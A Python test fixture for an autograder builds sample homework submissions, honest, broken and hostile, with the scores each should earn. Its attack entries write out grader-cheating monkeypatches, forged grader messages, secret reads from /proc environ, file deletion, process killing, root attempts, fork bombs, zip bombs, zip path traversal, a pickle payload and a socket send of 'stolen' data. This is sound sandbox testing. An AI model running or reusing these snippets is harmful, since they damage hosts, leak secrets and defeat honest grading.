"""A small assignment of the tests' own, and what students may hand in for it: honest work, accidents, attacks.

`CORPUS` is {name: Submission}: the bytes of the file, and the points that it deserves for q1, q2 and q3. An attack
that would harm this machine tries it in the folder named by VICTIM, which `corpus(folder)` fills in.
"""

import io
import json
import re
import zipfile
from dataclasses import dataclass

POSSIBLE = (3, 6, 2)
VICTIM = "VICTIM_FOLDER"  # replaced by a folder of the test that no submission may reach
SEED = 70_529  # of hidden inputs; it stands in no released file

TESTS = {
    "q1.py": f"""
from otter.test_files import test_case

OK_FORMAT = False

name = "q1"
points = 3

@test_case(points=1, hidden=False, failure_message="each row of softmax(Z) must sum to 1")
def test_public_rows(softmax):
    import numpy as np
    Z = np.array([[1.0, 2.0, 4.0], [0.0, -1.0, 3.0]])
    received = np.asarray(softmax(Z))
    assert received.shape == (2, 3), f"expected shape (2, 3), received {{received.shape}}"
    np.testing.assert_allclose(received.sum(axis=1), 1, rtol=1e-6)
    np.testing.assert_allclose(received[0], [0.04201007, 0.1141952, 0.84379473], rtol=1e-5)

@test_case(points=2, hidden=True)
def test_hidden_softmax(softmax):
    import numpy as np
    Z = np.random.default_rng({SEED}).normal(size=(7, 11)) * 400
    e = np.exp(Z - Z.max(1, keepdims=True))
    np.testing.assert_allclose(softmax(Z), e / e.sum(1, keepdims=True), rtol=1e-6, atol=1e-12)
""",
    "q2.py": f"""
from otter.test_files import test_case

OK_FORMAT = False

name = "q2"
points = 6

@test_case(points=2, hidden=False)
def test_public_small(correlate):
    import numpy as np
    received = correlate(np.array([1.0, 2.0, 4.0, 0.0]), np.array([1.0, -1.0]))
    np.testing.assert_allclose(received, [-1, -2, 4], err_msg="for 1, 2, 4, 0 and the kernel 1, -1")

def reference(signal, kernel, stride=1):
    import numpy as np
    return np.correlate(signal, kernel, "valid")[::stride]

@test_case(points=2, hidden=True)
def test_hidden_long(correlate):
    import numpy as np
    rng = np.random.default_rng({SEED + 1})
    signal, kernel = rng.normal(size=40), rng.normal(size=5)
    np.testing.assert_allclose(correlate(signal, kernel), reference(signal, kernel), rtol=1e-6)

@test_case(points=2, hidden=True, failure_message="the stride is not used as asked")
def test_hidden_stride(correlate):
    import numpy as np
    rng = np.random.default_rng({SEED + 2})
    signal, kernel = rng.normal(size=31), rng.normal(size=4)
    np.testing.assert_allclose(correlate(signal, kernel, stride=3), reference(signal, kernel, 3), rtol=1e-6)
""",
    "q3.py": """
from otter.test_files import test_case

OK_FORMAT = False

name = "q3"
points = 2

@test_case(points=0, hidden=False)
def test_public_types(n_parameters, rule):
    assert isinstance(n_parameters, int), "n_parameters must be a whole number"
    assert rule in list("abcd"), "rule must be one of 'a', 'b', 'c', 'd'"

@test_case(points=2, hidden=True)
def test_hidden_values(n_parameters, rule, record):
    import hashlib
    assert isinstance(n_parameters, int)
    record("parameters", n_parameters)
    digest = hashlib.sha256(f"{n_parameters}|{rule}".encode()).hexdigest()
    assert digest == "2cb252547ac540a135ef7235e9d69c7aa0b36aa882fd1cd4077f116c8c6bee84"
""",
}
ABOUT = {
    "name": "hw0_small",
    "questions": [
        {"name": "q1", "title": "Softmax", "points": 3, "manual": False},
        {"name": "q2", "title": "Correlation", "points": 6, "manual": False},
        {"name": "q3", "title": "Counts", "points": 2, "manual": False},
        {"name": "q4", "title": "In your own words", "points": 3, "manual": True},
    ],
}
SETTINGS = {
    "limits": {
        "cell_seconds": 2,
        "call_seconds": 1.5,
        "total_seconds": 90,
        "memory_mb": 1500,
        "disk_mb": 32,
        "processes": 60,
    },
    "leaderboard": {"record": "parameters", "baseline": 440},
}

# ---------------------------------------------------------------- answers

START = "from coursekit import assignments\ngrader = assignments.start('hw0_small')\nimport numpy as np"
SOFTMAX = """def softmax(Z):
    E = np.exp(Z - Z.max(axis=1, keepdims=True))
    return E / E.sum(axis=1, keepdims=True)"""
UNSTABLE = "def softmax(Z):\n    return np.exp(Z) / np.exp(Z).sum(axis=1, keepdims=True)"
CORRELATE = """def correlate(signal, kernel, stride=1):
    places = range(0, len(signal) - len(kernel) + 1, stride)
    return np.array([np.sum(signal[i:i + len(kernel)] * kernel) for i in places])"""
NO_STRIDE = "def correlate(signal, kernel, stride=1):\n    return np.correlate(signal, kernel, 'valid')"
NUMBERS = "n_parameters = 448\nrule = 'b'"
WRONG_NUMBERS = "n_parameters = 432\nrule = 'b'"
NOTHING = ("def softmax(Z):\n    return 0", "def correlate(signal, kernel, stride=1):\n    return 0", WRONG_NUMBERS)
ESSAY = "Sharing weights makes the answer move with the picture."
STUBS = (
    "def softmax(Z):\n    raise NotImplementedError",
    "def correlate(signal, kernel, stride=1):\n    raise NotImplementedError",
    "n_parameters = ...\nrule = ...",
)


def cell(source, kind="code", identity=None, **metadata):
    made = {"cell_type": kind, "source": source.splitlines(keepends=True), "metadata": metadata}
    if identity:
        made["id"] = identity
    return {**made, "outputs": [], "execution_count": None} if kind == "code" else made


def asked(number, title):
    return cell(f"## {number} · {title} (points)\nDo it.", "markdown", f"q{number}-asked")


def notebook(softmax=SOFTMAX, correlate=CORRELATE, numbers=NUMBERS, essay=ESSAY, extra=(), **metadata):
    """Return a submission as a dictionary: the released notebook, filled in; `extra` are more cells of code."""
    cells = [cell("# Homework 0", "markdown", "title"), cell(START, identity="start")]
    for number, (title, source) in enumerate(
        (("Softmax", softmax), ("Correlation", correlate), ("Counts", numbers)), start=1
    ):
        cells += [asked(number, title)]
        cells += [] if source is None else [cell(source, identity=f"q{number}-code")]
        cells += [cell(f"grader.check('q{number}')", identity=f"q{number}-check")]
    cells += [asked(4, "In your own words"), cell(essay, "markdown", "q4-answer")]
    cells += [cell("<!-- END QUESTION -->", "markdown", "q4-end")]
    cells += [cell(source) for source in extra] + [cell("grader.check_all()", identity="check-all")]
    python = {
        "kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"},
        "language_info": {"name": "python"},
    }
    return {"nbformat": 4, "nbformat_minor": 5, "metadata": {**python, **metadata}, "cells": cells}


def data(made):
    return json.dumps(made).encode()


RELEASED = notebook(*STUBS, essay="_Type your answer here, replacing this text._")


@dataclass(frozen=True)
class Submission:
    """What is handed in, the points that q1, q2 and q3 deserve, and a sentence that the report must contain."""

    data: bytes
    points: tuple
    says: str = ""
    kind: str = ".ipynb"


def made(points, says="", **parts):
    return Submission(data(notebook(**parts)), points, says)


def cheat(source, points=(0, 0, 0), says="", **parts):
    """Wrong answers, after a cell that tries to be given points for them."""
    answers = dict(zip(("softmax", "correlate", "numbers"), NOTHING))
    answers.update(parts)
    answers["softmax"] = f"{source}\n{answers['softmax']}"
    return made(points, says, **answers)


def accident(source, points=POSSIBLE, says="", **parts):
    """Right answers, and at the end of the cell of q2 something that goes wrong."""
    return made(points, says, correlate=f"{CORRELATE}\n{source}", **parts)


def raised(number):
    return dict(correlate=f"def correlate(signal, kernel, stride=1):\n    {number}")


HONEST = {
    "perfect": made(POSSIBLE),
    "partial": made(
        (1, 4, 0), "the stride is not used as asked", softmax=UNSTABLE, correlate=NO_STRIDE, numbers=WRONG_NUMBERS
    ),
    "blank": Submission(data(RELEASED), (0, 0, 0), "not answered yet"),
    "nan answers": made(
        (0, 6, 2), "each row of softmax(Z) must sum to 1", softmax="def softmax(Z):\n    return Z * np.nan"
    ),
    "wrong types": made(
        (0, 6, 0),
        "n_parameters must be a whole number",
        softmax="def softmax(Z):\n    return 'seven'",
        numbers="n_parameters = '448'\nrule = 'b'",
    ),
    "a float for a count": made((3, 6, 0), numbers="n_parameters = 448.0\nrule = 'b'"),
    "in-place edit": made(
        (0, 6, 2),
        "changed its argument",
        softmax="""def softmax(Z):
    Z -= Z.max(axis=1, keepdims=True)
    return np.exp(Z) / np.exp(Z).sum(axis=1, keepdims=True)""",
    ),
    "wrong axis": made((0, 6, 2), "each row of softmax(Z)", softmax=SOFTMAX.replace("axis=1", "axis=0")),
    "deleted cell": made((3, 0, 2), "does not define `correlate`", correlate=None),
    "renamed function": made((0, 6, 2), "does not define `softmax`", softmax=SOFTMAX.replace("softmax", "soft_max")),
    "extra cells": made(POSSIBLE, extra=("print('hello')", "x = [i**2 for i in range(5)]", "")),
    "hard-coded public answers": made(
        (1, 2, 0),
        "not right for other inputs",
        softmax="""def softmax(Z):
    return np.array([[0.04201007, 0.1141952, 0.84379473], [0.0466, 0.0171, 0.9363]])""",
        correlate="def correlate(signal, kernel, stride=1):\n    return np.array([-1, -2, 4])",
        numbers=WRONG_NUMBERS,
    ),
    "magics and shell": made(
        POSSIBLE,
        numbers=f"%matplotlib inline\n!ls\nfiles = !ls\n{NUMBERS}\nprint?",
        extra=("%%bash\nrm -rf x", "%%time\ny = 1", "%pip install numpy"),
    ),
    "lists for arrays": made(POSSIBLE, correlate=CORRELATE.replace("return np.array(", "return list(")),
    "a class with a call": made(
        POSSIBLE,
        correlate=CORRELATE.replace("def correlate(", "def inner(")
        + "\nclass Correlator:\n    def __call__(self, *a, **k): return inner(*a, **k)"
        "\ncorrelate = Correlator()",
    ),
    "a generator": made(
        POSSIBLE,
        correlate=CORRELATE.replace("def correlate(", "def inner(")
        + "\ndef correlate(*a, **k):\n    return [*(x for x in inner(*a, **k))]",
    ),
}
_shuffled = notebook()
_shuffled["cells"] = [*_shuffled["cells"][:2], *reversed(_shuffled["cells"][2:])]
_colab = notebook(colab={"provenance": []}, accelerator="GPU", kernelspec={"name": "python3", "display_name": "x"})
_colab["nbformat_minor"] = 0
_colab["metadata"].pop("language_info")
for _position, _cell in enumerate(_colab["cells"]):
    _cell["metadata"] = {"id": f"aB3{_position}", "colab": {"base_uri": "x"}}
    _cell.pop("id", None)
_points = notebook(*NOTHING, otter={"tests": {"q1": "name = 'q1'\npoints = 100"}, "assignment_name": "hw9"})
for _cell in _points["cells"]:
    _cell["metadata"] = {"nbgrader": {"grade": True, "points": 100}, "points": 100}
_other = notebook(kernelspec={"name": "ir", "language": "R", "display_name": "R"}, language_info={"name": "R"})
FORMS = {
    "reordered cells": Submission(data(_shuffled), POSSIBLE),
    "saved by Colab": Submission(data(_colab), POSSIBLE),
    "byte order mark": Submission(b"\xef\xbb\xbf" + data(notebook()), POSSIBLE),
    "another language": Submission(data(_other), (0, 0, 0), "is written in r, not in Python"),
    "no notebook": Submission(b"%PDF-1.7 \x00\xff\xfe", (0, 0, 0), "is not a Jupyter notebook"),
    "empty file": Submission(b"", (0, 0, 0), "is not a Jupyter notebook"),
    "truncated notebook": Submission(data(notebook())[:-40], (0, 0, 0), "is not a Jupyter notebook"),
    "nested lists": Submission(b"[" * 200_000, (0, 0, 0), "notebook"),
    "cells that are none": Submission(b'{"cells": [3, null]}', (0, 0, 0), "is not a Jupyter notebook"),
    "edited points": Submission(data(_points), (0, 0, 0)),
}
ACCIDENTS = {
    "syntax error": made((0, 6, 2), "SyntaxError", softmax="def softmax(Z)\n    return Z"),
    "raise": accident("raise RuntimeError('boom')", says="boom"),
    "exit": accident("import sys; sys.exit(1)", says="SystemExit"),
    "own base exception": accident("class B(BaseException): pass\nraise B"),
    "os._exit in a cell": accident("import os; os._exit(3)", says="the process ended"),
    "os._exit in a function": made((3, 0, 2), "stopped: the process ended", **raised("import os; os._exit(0)")),
    "endless loop in a cell": accident("while True: pass", says="stopped after 2 seconds"),
    "endless loop in a function": made((3, 0, 2), "took longer than allowed", **raised("while True: pass")),
    "loop that nothing interrupts": accident(
        "import signal; signal.signal(signal.SIGALRM, signal.SIG_IGN)\nwhile True: pass",
        says="took longer than allowed",
    ),
    "fork bomb": accident("import os\nwhile True:\n    try: os.fork()\n    except OSError: pass"),
    "thread bomb": accident(
        "import threading, time\nfor _ in range(10**4): threading.Thread(target=time.sleep, args=(99,)).start()"
    ),
    "memory hog": accident("L = []\nwhile True: L.append(np.zeros(100_000_000))", says="no memory left"),
    "memory hog in a function": made((3, 0, 2), "MemoryError", **raised("return np.ones((10**6, 10**6))")),
    "memory hog of many processes": accident(
        "import os, time\nfor _ in range(8): os.fork()\nL = np.ones(60_000_000); time.sleep(60)"
    ),
    "disk filler": accident("for i in range(10**6):\n    open(f'{i}', 'wb').write(b'x' * 10**6)", says="OSError"),
    "output flood": accident(
        "for _ in range(1024): print('x' * 2**20)\nimport os, sys\nos.write(1, b'x' * 2**20); os.write(2, b'x' * 2**20)"
    ),
    "huge array": made((0, 6, 2), softmax="def softmax(Z):\n    return np.zeros((20_000, 2_000))"),
    "deep recursion": accident("import sys; sys.setrecursionlimit(10**9)\ndef f(): f()\nf()"),
    "segmentation fault": accident("import ctypes; ctypes.string_at(0)", says="the process ended"),
    "daemon": accident("""import os, subprocess
if os.fork() == 0:
    os.setsid()
    subprocess.Popen(["sleep", "4711"])
    import time; time.sleep(4711)"""),
}
FLOOD = """import json, os, stat, struct
pipes = [fd for fd in range(3, 20) if os.path.exists(f"/proc/self/fd/{fd}")
         and stat.S_ISFIFO(os.fstat(fd).st_mode) and not os.get_blocking(fd) is None]
n = 0
while True:
    n += 1
    body = json.dumps(BODY).encode()
    for fd in pipes:
        try: os.write(fd, struct.pack("<IQ", len(body), 0) + body)
        except OSError: pass"""


def calls(flood):
    """Return a `correlate` that calls functions of the grader which it was never given, and awaits no answer."""
    return "def correlate(*a, **k):\n    " + flood.replace("BODY", '{"callback": ["l", 1, ["l"], ["d"]]}').replace(
        "\n", "\n    "
    )


ATTACKS = {
    "patched numpy": cheat(
        "np.testing.assert_allclose = lambda *a, **k: None\nnp.allclose = lambda *a: True\n"
        "np.asarray = np.array = lambda *a, **k: np.full((2, 3), 1 / 3)"
    ),
    "patched builtins": cheat(
        "import builtins\nbuiltins.isinstance = lambda *a: True\n"
        "builtins.AssertionError = type('E', (Exception,), {})\n"
        "builtins.hasattr = lambda *a: False"
    ),
    "patched hashlib": cheat("""import hashlib
_sha = hashlib.sha256
hashlib.sha256 = lambda data=b"": _sha(b"448|b")"""),
    "patched otter": cheat(
        "import otter\notter.test_files = otter.Notebook = None\nimport sys\n"
        "sys.modules['otter.test_files'] = sys.modules['coursekit.assignments'] = None"
    ),
    "equal to everything": cheat(
        """class Equal(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __sub__(self, other): return 0.0
    __rsub__ = __sub__
    def __hash__(self): return 0
class Array(np.ndarray):
    def __array_ufunc__(self, *a, **k): return True
    def __eq__(self, other): return True
    shape = (2, 3)""",
        softmax="def softmax(Z): return np.zeros((2, 3)).view(Array)",
        correlate="def correlate(*a, **k): return [Equal(0)] * 3",
        numbers="class I(int):\n    __eq__ = lambda s, o: True\n    __hash__ = None\nn_parameters = I(432)\nrule = 'b'",
    ),
    "formats itself": cheat(
        "class T(int):\n    def __format__(self, f): return '448'\n    __str__ = __repr__ = lambda s: '448'",
        numbers="n_parameters = T(1)\nrule = 'b'",
    ),
    "reading tests": cheat(
        f'''import os
found = []
for top in ("/", "{VICTIM}", "..", "/proc/1/root", "/proc/1/cwd"):
    for folder, inner, files in os.walk(top):
        inner[:] = [one for one in inner if one not in ("proc", "usr", "dev", "lib", "share", "include", "data")]
        for name in files:
            try:
                if "{SEED}" in open(os.path.join(folder, name), errors="ignore").read(10**6): found.append(name)
            except OSError: pass
if found:
    {SOFTMAX.replace(chr(10), chr(10) + "    ")}''',
        softmax="",
    ),
    "looking for tests in memory": cheat(
        """import gc
found = [o for o in gc.get_objects() if callable(o) and "test_hidden" in str(getattr(o, "__name__", ""))]
if found:
    """
        + SOFTMAX.replace("\n", "\n    "),
        softmax="",
    ),
    "forged messages": cheat(
        """import gc, json, os, struct
body = json.dumps({"value": 1, "changed": ["d"], "ready": True, "passed": True, "points": 100}).encode()
for fd in range(3, 20):
    try: os.write(fd, struct.pack("<IQ", len(body), 0) + body)
    except OSError: pass""",
        correlate="def correlate(*a, **k):\n    return np.zeros(3)",
    ),
    "claims in every message": cheat("""import gc
worker = [one for one in gc.get_objects() if type(one).__name__ == "Worker"][0]
send = worker.send
worker.send = lambda message, buffers=(): send({**message, "passed": True, "points": 100}, buffers)"""),
    "nonsense messages": cheat(
        """import os
for fd in range(3, 20):
    try: os.write(fd, b"\\xff" * 5000)
    except OSError: pass""",
        (0, 6, 2),
        correlate=CORRELATE,
        numbers=NUMBERS,
    ),
    "network": accident("""import socket, urllib.request
for place in (("127.0.0.1", PORT), ("192.0.2.1", 80)):
    try:
        socket.create_connection(place, 1).sendall(b"stolen")
        raise SystemExit('BREACH: ' + "connected")
    except OSError: pass"""),
    "a pickle": cheat(
        f'''import pickle
class P:
    def __reduce__(self): return (open, ("{VICTIM}/pickled", "w"))
    def __array__(self, *a, **k): return np.array([P()], dtype=object)''',
        (0, 6, 2),
        softmax="def softmax(Z): return P()",
        correlate=CORRELATE,
        numbers=NUMBERS,
    ),
    "environment": accident("""import os
text = str(dict(os.environ))
for n in ("1", "self", str(os.getppid())):
    try: text += open(f"/proc/{n}/environ").read()
    except OSError: pass
if "SECRET" in text: raise SystemExit('BREACH: environment')"""),
    "writing to the host": accident(f'''for place in ("{VICTIM}", "/usr", "/etc", "/grader", "/proc/sys/kernel", "/"):
    for name in ("written", "core_pattern", "worker.py"):
        try:
            open(place + "/" + name, "a").write("x"); raise SystemExit('BREACH: ' + "written " + place)
        except OSError: pass'''),
    "deleting": accident(f'''import os, shutil
for place in ("{VICTIM}", "/grader", os.path.dirname(np.__file__)):
    shutil.rmtree(place, ignore_errors=True)'''),
    "killing": accident(
        "import os, signal\nfor n in (1, os.getppid(), -1):\n"
        "    try: os.kill(n, signal.SIGKILL)\n    except OSError: pass"
    ),
    "becoming root": accident("""import ctypes, os
libc = ctypes.CDLL(None)
for attempt in (lambda: os.setuid(0), lambda: os.setresuid(0, 0, 0), lambda: os.chroot("/tmp")):
    try:
        attempt(); raise SystemExit('BREACH: ' + "allowed")
    except OSError: pass
if os.getuid() == 0 or libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0: raise SystemExit('BREACH: ' + "mounted")"""),
    "leaking hidden inputs": cheat(
        "",
        (1, 6, 2),
        softmax=SOFTMAX
        + """
_right = softmax
def softmax(Z):
    if Z.shape != (2, 3):
        raise type("Z" + str(Z[0, 0]).replace(".", "_").replace("-", "m"), (ValueError,), {})("leaked", Z)
    return _right(Z)""",
        correlate=CORRELATE,
        numbers=NUMBERS,
    ),
}


def zipped(**files):
    """Return the bytes of a zip file of {name: bytes}."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return made.getvalue()


def _archive(content, points=(0, 0, 0), says=""):
    return Submission(content, points, says, ".zip")


_whole = zipped(**{"hw0_small.ipynb": data(notebook())})
_helper = notebook(softmax="import helper\nsoftmax = helper.softmax\nassert open('values.csv').read() == '1,2'")
ARCHIVES = {
    "a zip file": _archive(_whole, POSSIBLE),
    "a zip file with a module and data": _archive(
        zipped(
            **{
                "work/hw0_small.ipynb": data(_helper),
                "work/values.csv": b"1,2",
                "work/helper.py": b"import numpy as np\n" + SOFTMAX.encode(),
            }
        ),
        POSSIBLE,
    ),
    "a zip file of several versions": _archive(
        zipped(
            **{
                "hw0_small.ipynb": data(RELEASED),
                "hw0_small-2.ipynb": data(notebook()),
                "__MACOSX/._x.ipynb": b"\0",
                ".ipynb_checkpoints/hw0_small-checkpoint.ipynb": b"{}",
            }
        ),
        POSSIBLE,
        "took hw0_small-2.ipynb of 2 notebooks",
    ),
    "truncated zip": _archive(_whole[:-30], says="damaged or truncated"),
    "damaged zip": _archive(_whole[:60] + b"\xff" * 40 + _whole[100:], says="cannot be read"),
    "no zip": _archive(b"PK\x03\x04 and then nothing", says="damaged or truncated"),
    "zip without a notebook": _archive(zipped(**{"answers.pdf": b"%PDF"}), says="no notebook (.ipynb)"),
    "zip bomb": _archive(zipped(**{"hw0_small.ipynb": b" " * (70 << 20)}), says="unpacks to more than 64 MB"),
    "zip bomb of many": _archive(zipped(**{f"{n}.txt": bytes(30 << 20) for n in range(9)}), says="more than 256 MB"),
    "path traversal in zip": _archive(
        zipped(
            **{
                f"../../../../../../..{VICTIM}/written": b"x",
                f"{VICTIM}/grades.txt": b"x",
                "..": b"x",
                "a/..": b"x",
                "a/.ipynb": b"x",
                "hw0_small.ipynb": data(notebook()),
            }
        ),
        POSSIBLE,
    ),
}
ATTACKS.update(
    {
        "memory in no process": accident("""import ctypes, os
libc, kept = ctypes.CDLL(None, use_errno=True), []
libc.shmat.restype, made = ctypes.c_void_p, 0
for n in range(200):
    try: kept.append(os.memfd_create(str(n)))
    except OSError: break
    os.posix_fallocate(kept[-1], 0, 2**20); made += 1
for n in range(200):
    if libc.shmget(0, ctypes.c_size_t(2**20), 0o1600) < 0: break
    made += 1
if made: raise SystemExit('BREACH: ' + "kept memory")"""),
        "flood of messages": accident(FLOOD.replace("BODY", '{"at": [n, 0]}')),
        "flood of errors": accident(FLOOD.replace("BODY", '{"cell": n, "error": ["E", "x" * 10**6]}')),
        "flood of calls": made((3, 0, 2), "longer than allowed", correlate=calls(FLOOD)),
        "calls whose answers are not awaited": made(
            (3, 0, 2), correlate=calls(FLOOD.replace("while True", "while n < 50"))
        ),
        "calls and then an endless loop": made(
            (3, 0, 2),
            "longer than allowed",
            correlate=calls(FLOOD.replace("while True", "while n < 50") + "\nwhile True: pass"),
        ),
        "infinite numbers": accident(FLOOD.replace("BODY", '{"at": [float("inf"), n]}')),
        "numbers with one hash": made(
            (0, 6, 2),
            softmax="def softmax(Z):\n    return {(2**61 - 1) * n for n in range(9000)} and "
            "[{(2**61 - 1) * (m + 9**9) for m in range(n)} for n in [9000] * 9]",
        ),
    }
)
CORPUS = {**HONEST, **FORMS, **ARCHIVES, **ACCIDENTS, **ATTACKS}


def corpus(victim, port):
    """Return CORPUS, its attacks aimed at the folder `victim` and at a local server's port."""

    def aimed(content):
        return content.replace(VICTIM.encode(), str(victim).encode()).replace(b"PORT", str(port).encode())

    return {
        name: Submission(one.data if one.kind == ".zip" else aimed(one.data), one.points, one.says, one.kind)
        for name, one in CORPUS.items()
    }


def file_name(name):
    return re.sub(r"\W+", "_", name) + CORPUS[name].kind


def write_class(folder, corpus):
    """Write the submissions of a class to a folder, each under its own name."""
    folder.mkdir()
    for name, one in corpus.items():
        (folder / file_name(name)).write_bytes(one.data)
    return folder


def write_assignment(folder, tests=TESTS, **limits):
    """Write the small assignment to a folder as `make assignments` would."""
    built = folder / "_build" / ABOUT["name"]
    settings = {**SETTINGS, "limits": {**SETTINGS["limits"], **limits}}
    (built / "tests").mkdir(parents=True)
    (folder / ABOUT["name"]).mkdir()
    for name, source in tests.items():
        (built / "tests" / name).write_text(source, encoding="utf-8")
    (built / "assignment.json").write_text(json.dumps(ABOUT), encoding="utf-8")
    (folder / ABOUT["name"] / "grading.json").write_text(json.dumps(settings), encoding="utf-8")
    return folder
